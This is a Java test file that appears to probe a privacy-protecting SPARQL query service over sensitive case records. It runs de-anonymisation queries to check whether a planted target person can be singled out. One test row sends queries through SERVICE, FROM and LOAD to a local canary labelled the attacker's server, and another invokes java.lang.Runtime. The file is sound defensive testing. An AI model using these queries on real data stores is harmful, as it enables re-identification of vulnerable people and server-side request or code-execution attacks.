package org.weir.deploy.attacks;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Rows about what a text could make a node do. Every text is sent to a desk as any analyst sends it, and in a signed envelope straight to
 * an answering node, in a world with the target and in one without. Found is a name in a reply, or a difference between the worlds.
 */
final class TextAttacks {
    private static final int OTHERS = 120;
    private static final String OFF = "the compiler to closed questions: the node runs the text as it is";
    private static final String PREFIXES = """
            PREFIX weir: <https://w3id.org/weir/ns#>
            PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
            PREFIX country: <https://w3id.org/weir/code/country/>
            PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
            """;

    /** The target's own record, as a pattern. */
    private static final String ONE = "?case a weir:CaseRecord ; weir:subject ?person ; weir:citizenship country:BTN";

    private static final String ALL = "?case a weir:CaseRecord ; weir:subject ?person ; weir:gender ?g";

    private static final List<String> IDENTIFIERS = List.of(
            "SELECT ?person WHERE { " + ONE + " }",
            "SELECT * WHERE { " + ONE + " }",
            "SELECT DISTINCT ?person ?g WHERE { " + ALL + " }",
            "SELECT (STR(?person) AS ?n) WHERE { " + ALL + " }",
            "SELECT ?name WHERE { " + ONE + " . ?person weir:name ?name }",
            "SELECT ?case WHERE { " + ONE + " }",
            "ASK { " + ONE + " }",
            "DESCRIBE ?person WHERE { " + ONE + " }",
            "CONSTRUCT { ?person weir:name ?name } WHERE { " + ONE + " . ?person weir:name ?name }");

    private static final List<String> GROUPED = List.of(
            "SELECT ?person (COUNT(?case) AS ?n) WHERE { " + ALL + " } GROUP BY ?person",
            "SELECT ?case (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ALL + " } GROUP BY ?case",
            "SELECT ?k (COUNT(?case) AS ?n) WHERE { " + ALL + " BIND(STR(?person) AS ?k) } GROUP BY ?k",
            "SELECT ?k (COUNT(?case) AS ?n) WHERE { " + ALL + " } GROUP BY (CONCAT(STR(?person), \"\") AS ?k)",
            "SELECT ?name (COUNT(?case) AS ?n) WHERE { " + ALL + " . ?person weir:name ?name } GROUP BY ?name",
            "SELECT ?k (COUNT(?case) AS ?n) WHERE { " + ALL + " } GROUP BY (SUBSTR(STR(?person), 1, 40) AS ?k)");

    private static final List<String> PICKED = List.of(
            "SELECT (SAMPLE(?person) AS ?n) WHERE { " + ONE + " }",
            "SELECT (MIN(?person) AS ?n) WHERE { " + ALL + " }",
            "SELECT (MAX(STR(?person)) AS ?n) WHERE { " + ALL + " }",
            "SELECT (GROUP_CONCAT(STR(?person)) AS ?n) WHERE { " + ALL + " }",
            "SELECT (SAMPLE(?y) AS ?n) WHERE { " + ONE + " ; weir:registered ?y }",
            "SELECT (MAX(?y) AS ?n) WHERE { " + ONE + " ; weir:registered ?y }",
            "SELECT ?y WHERE { " + ONE + " ; weir:registered ?y } ORDER BY ?y LIMIT 1");

    private static final List<String> WEIGHTED = List.of(
            "SELECT (SUM(IF(?c = country:BTN, 1000000, 1)) AS ?n) WHERE { " + ALL + " ; weir:citizenship ?c }",
            "SELECT (COUNT(DISTINCT ?person) * 1000000 AS ?n) WHERE { " + ONE + " FILTER(RAND() < 2) }",
            "SELECT (SUM(xsd:integer(?y)) AS ?n) WHERE { " + ONE + " ; weir:registered ?y }",
            "SELECT (AVG(?y) AS ?n) WHERE { " + ONE + " ; weir:registered ?y }",
            "SELECT (COUNT(IF(?c = country:BTN, ?person, 1/0)) AS ?n) WHERE { " + ALL + " ; weir:citizenship ?c }",
            "SELECT (SUM(STRLEN(STR(?person))) AS ?n) WHERE { " + ONE + " }");

    private static final List<String> PATHS = List.of(
            "SELECT ?p (COUNT(?o) AS ?n) WHERE { " + ONE + " . ?person ?p ?o } GROUP BY ?p",
            "SELECT (COUNT(DISTINCT ?o) AS ?n) WHERE { " + ONE + " . ?case ?p ?o }",
            "SELECT ?o WHERE { " + ONE + " . ?case weir:subject/weir:name ?o }",
            "SELECT ?o WHERE { " + ONE + " . ?case !weir:gender ?o }",
            "SELECT ?o WHERE { " + ONE + " . ?person ^weir:subject/weir:gender ?o }",
            "SELECT ?o WHERE { " + ONE + " . ?case (weir:subject|weir:gender)+ ?o }");

    private static final List<String> LEFT_OUT = List.of(
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ALL + " MINUS { ?case weir:citizenship country:BTN } }",
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ONE + " FILTER NOT EXISTS { ?case weir:duration ?d } }",
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ONE + " FILTER(?person != <urn:weir:subject:nobody>) }",
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { VALUES ?person { <urn:weir:subject:" + name() + "> } " + ALL
                    + " }");

    private static final List<String> NARROWED = List.of(
            "SELECT (COUNT(DISTINCT ?case) AS ?n) WHERE { ?case a weir:CaseRecord ; weir:subject <urn:weir:subject:"
                    + name() + "> }",
            "SELECT ?f (COUNT(?case) AS ?n) WHERE { VALUES ?person { <urn:weir:subject:" + name()
                    + "> <urn:weir:subject:a> <urn:weir:subject:b> } ?case a weir:CaseRecord ; weir:subject ?person ;"
                    + " weir:exploitation ?f } GROUP BY ?f",
            "SELECT (COUNT(?case) AS ?n) WHERE { " + ALL + " FILTER(CONTAINS(STR(?person), \"" + name() + "\")) }");

    private static final List<String> SUB_SELECTS = List.of(
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { { SELECT ?person ?case WHERE { " + ONE + " } LIMIT 1 } }",
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ALL + " { SELECT ?case WHERE { " + ONE
                    + " } ORDER BY ?case OFFSET 0 LIMIT 1 } }",
            "SELECT (COUNT(?person) AS ?n) WHERE { { SELECT ?person (COUNT(?case) AS ?m) WHERE { " + ONE
                    + " } GROUP BY ?person HAVING (COUNT(?case) = 1) } }",
            "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { { SELECT DISTINCT ?person WHERE { " + ONE + " } } }");

    private TextAttacks() {}

    private static String name() {
        return Planted.name(Planted.target());
    }

    static List<Attack> attacks() {
        return List.of(
                texts(
                        Row.A01,
                        "",
                        "An analyst writes questions that ask for a person, a name or one record.",
                        IDENTIFIERS),
                texts(Row.A02, "", "An analyst groups by a person, a record or a text made from one.", GROUPED),
                texts(Row.A03, "", "An analyst asks for one value of one person.", PICKED),
                texts(
                        Row.A04,
                        "",
                        "An analyst writes arithmetic that gives the target more weight than everybody else.",
                        WEIGHTED),
                texts(
                        Row.A05,
                        "by name",
                        "An analyst filters by the target's identifier, alone and among decoys.",
                        NARROWED),
                texts(
                        Row.A06,
                        "in words",
                        "An analyst leaves the target out by MINUS, NOT EXISTS or a comparison.",
                        LEFT_OUT),
                texts(Row.A07, "", "An analyst reaches for facts beside the code lists.", PATHS),
                Attack.holds(
                        Row.A08,
                        "",
                        "An analyst names a server of her own in the question, and waits for somebody to call.",
                        OFF,
                        Bound.never(),
                        runs -> calls(runs, false),
                        runs -> calls(runs, true)),
                texts(
                        Row.A09,
                        "",
                        "An analyst picks one person in an inner question and counts outside.",
                        SUB_SELECTS));
    }

    private static Attack texts(Row row, String part, String story, List<String> texts) {
        return Attack.holds(row, part, story, OFF, Bound.never(), runs -> defended(runs, row, texts), _ -> open(texts));
    }

    private static Score defended(Runs runs, Row row, List<String> texts) throws Exception {
        OneNode with = new OneNode(runs.fresh(row), Planted.records(OTHERS, true));
        OneNode without = new OneNode(runs.fresh(row), Planted.records(OTHERS, false));
        int found = 0;
        Pilot pilot = Pilot.shared(runs);
        for (String text : texts) {
            OneNode.Reply there = with.ask(PREFIXES + text);
            OneNode.Reply notThere = without.ask(PREFIXES + text);
            boolean differs = !there.word().equals(notThere.word())
                    || !there.table().equals(notThere.table())
                    || there.isAnswered();
            String said = pilot.ask(PREFIXES + text);
            boolean named = !text.contains(name()) && said.contains(name());
            found += differs || named || there.seal().contains(name()) ? 1 : 0;
        }
        return new Score.Found(texts.size() * 2L, found, "names or differences");
    }

    private static Score open(List<String> texts) {
        OpenStore with = new OpenStore(Planted.records(OTHERS, true));
        OpenStore without = new OpenStore(Planted.records(OTHERS, false));
        int found = 0;
        for (String text : texts) {
            String there = with.ask(PREFIXES + text);
            found += there.contains(name()) || !there.equals(without.ask(PREFIXES + text)) ? 1 : 0;
        }
        return new Score.Found(texts.size(), found, "names or differences");
    }

    private static Score calls(Runs runs, boolean isOpen) throws Exception {
        AtomicInteger calls = new AtomicInteger();
        HttpServer canary = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        canary.createContext("/", exchange -> {
            calls.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        canary.start();
        try {
            String address = "http://127.0.0.1:" + canary.getAddress().getPort() + "/";
            List<String> texts = List.of(
                    "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ALL + " SERVICE <" + address
                            + "> { ?a ?b ?c } }",
                    "SELECT (COUNT(DISTINCT ?person) AS ?n) WHERE { " + ALL + " SERVICE SILENT <" + address
                            + "> { ?person ?b ?c } }",
                    "SELECT (COUNT(DISTINCT ?person) AS ?n) FROM <" + address + "> WHERE { " + ALL + " }",
                    "SELECT (COUNT(DISTINCT ?person) AS ?n) FROM NAMED <" + address
                            + "> WHERE { GRAPH ?g { ?case a weir:CaseRecord ; weir:subject ?person } }",
                    "DESCRIBE <" + address + ">",
                    "LOAD <" + address + ">",
                    "SELECT (<java:java.lang.Runtime>(?person) AS ?n) WHERE { " + ALL + " }");
            OneNode node = new OneNode(runs.fresh(Row.A08), Planted.records(OTHERS, true));
            OpenStore open = new OpenStore(Planted.records(OTHERS, true));
            for (String text : texts) {
                if (isOpen) {
                    open.ask(PREFIXES + text);
                } else {
                    node.ask(PREFIXES + text);
                    Pilot.shared(runs).ask(PREFIXES + text);
                }
            }
            return new Score.Found(texts.size(), calls.get(), "calls to the attacker's server");
        } finally {
            canary.stop(0);
        }
    }
}
